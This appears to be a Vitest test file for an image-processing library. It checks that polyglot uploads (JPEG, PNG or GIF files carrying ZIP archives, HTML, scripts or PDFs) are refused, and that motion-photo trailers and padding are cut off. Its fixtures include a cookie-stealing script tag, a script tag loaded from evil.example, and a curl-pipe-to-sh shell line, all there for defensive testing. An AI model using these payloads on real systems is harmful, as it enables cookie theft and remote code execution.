import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { processImage } from '@media/imaging';
import { mp4Clip, withJpegSegment, withPngChunk, zipArchive } from '../../../test/fixtures/images/bytes';
import { markedPicture, multiFrame } from '../../../test/fixtures/images/pictures';
import { optionsFor, outcomeOf } from './outcomes';

const COM = 0xfe;
const jpeg = () => markedPicture(200, 150).jpeg().toBuffer();
const png = () => markedPicture(200, 150).png().toBuffer();
const zip = zipArchive('payload.txt', Buffer.from('not a photo'));

describe('an image that is also something else is rejected as POLYGLOT', () => {
  it('a JPEG with a ZIP archive appended', async () => {
    const outcome = await outcomeOf(Buffer.concat([await jpeg(), zip]), optionsFor('general', 'image/jpeg'));
    expect(outcome.code).toBe('POLYGLOT');
    expect(outcome.detail).toMatch(/ZIP/);
  });

  it('a GIF with a ZIP archive appended (a GIFAR)', async () => {
    const gif = await multiFrame('gif', [[200, 0, 0]]);
    expect((await outcomeOf(Buffer.concat([gif, zip]), optionsFor('general', 'image/gif'))).code).toBe('POLYGLOT');
  });

  it('a PNG carrying a ZIP directory in a chunk before IEND, where unzip still finds it', async () => {
    const carrier = withPngChunk(await png(), 'zzIP', zip);
    expect((await outcomeOf(carrier, optionsFor('general', 'image/png'))).code).toBe('POLYGLOT');
  });

  it('a PNG whose text chunk holds a <script>', async () => {
    const text = Buffer.from('Comment\0<script>fetch("/steal?c="+document.cookie)</script>', 'latin1');
    const outcome = await outcomeOf(withPngChunk(await png(), 'tEXt', text), optionsFor('general', 'image/png'));
    expect(outcome).toEqual({ code: 'POLYGLOT', detail: 'The image also contains HTML (<script…), so it is refused.' });
  });

  it('a tag whose name a form feed ends, which browsers read as whitespace', async () => {
    const text = Buffer.from('Comment\0<script\fsrc=//evil.example/x.js></script>', 'latin1');
    expect((await outcomeOf(withPngChunk(await png(), 'tEXt', text), optionsFor('general', 'image/png'))).code).toBe('POLYGLOT');
  });

  it('a JPEG whose comment holds an HTML page', async () => {
    const page = Buffer.from('<HTML><Body onload="alert(1)">hi</Body></HTML>');
    expect((await outcomeOf(withJpegSegment(await jpeg(), COM, page), optionsFor('general', 'image/jpeg'))).code).toBe('POLYGLOT');
  });

  it('a JPEG with an HTML page appended after its end', async () => {
    const page = Buffer.from('\n<html><body><iframe src="https://example.org"></iframe></body></html>\n');
    expect((await outcomeOf(Buffer.concat([await jpeg(), page]), optionsFor('general', 'image/jpeg'))).code).toBe('POLYGLOT');
  });

  it('a JPEG with a shell script appended after its end', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl -s https://example.org/x | sh\n');
    const outcome = await outcomeOf(Buffer.concat([await jpeg(), script]), optionsFor('general', 'image/jpeg'));
    expect(outcome.code).toBe('POLYGLOT');
    expect(outcome.detail).toMatch(/script/);
  });

  it('a JPEG with plain text appended after its end', async () => {
    const text = Buffer.from('var x = 1; // anything a text-sniffing reader might run\n'.repeat(4));
    expect((await outcomeOf(Buffer.concat([await jpeg(), text]), optionsFor('general', 'image/jpeg'))).code).toBe('POLYGLOT');
  });

  it('a JPEG carrying a PDF header in its first kilobyte, where PDF readers look', async () => {
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n');
    expect((await outcomeOf(withJpegSegment(await jpeg(), COM, pdf), optionsFor('general', 'image/jpeg'))).code).toBe('POLYGLOT');
  });

  it('a PNG with a PDF appended after IEND', async () => {
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
    expect((await outcomeOf(Buffer.concat([await png(), pdf]), optionsFor('general', 'image/png'))).code).toBe('POLYGLOT');
  });

  it('a file that starts as a PDF and carries a JPEG further on is not an image at all', async () => {
    const pdfFirst = Buffer.concat([Buffer.from('%PDF-1.4\n'), await jpeg()]);
    expect(await outcomeOf(pdfFirst, optionsFor('general', 'image/jpeg'))).toEqual({
      code: 'UNSUPPORTED_MEDIA_TYPE',
      detail: 'The file is a PDF document, not an image.',
    });
  });
});

describe('a camera trailer after the image is cut off, not rejected', () => {
  it("keeps a motion photo's JPEG and cuts off its MP4 video", async () => {
    const photo = await jpeg();
    const motion = Buffer.concat([photo, mp4Clip()]);
    const result = await processImage(motion, optionsFor('general', 'image/jpeg'));
    expect(result.trailer).toEqual({ kind: 'a video (motion photo)', bytes: motion.length - photo.length });
    expect(result.original.equals(photo)).toBe(true);
    expect(result.derivatives).toHaveLength(4);
  });

  it('cuts off the second JPEG of a multi-picture or gain-map photo', async () => {
    const photo = await jpeg();
    const second = await sharp({ create: { width: 50, height: 40, channels: 3, background: '#777' } })
      .jpeg()
      .toBuffer();
    const result = await processImage(Buffer.concat([photo, second]), optionsFor('general', 'image/jpeg'));
    expect(result.trailer?.kind).toMatch(/second JPEG/);
    expect(result.original.length).toBe(photo.length);
  });

  it('cuts off padding after a PNG', async () => {
    const image = await png();
    const result = await processImage(Buffer.concat([image, Buffer.alloc(512)]), optionsFor('general', 'image/png'));
    expect(result.trailer).toEqual({ kind: 'padding', bytes: 512 });
    expect(result.original.equals(image)).toBe(true);
  });
});
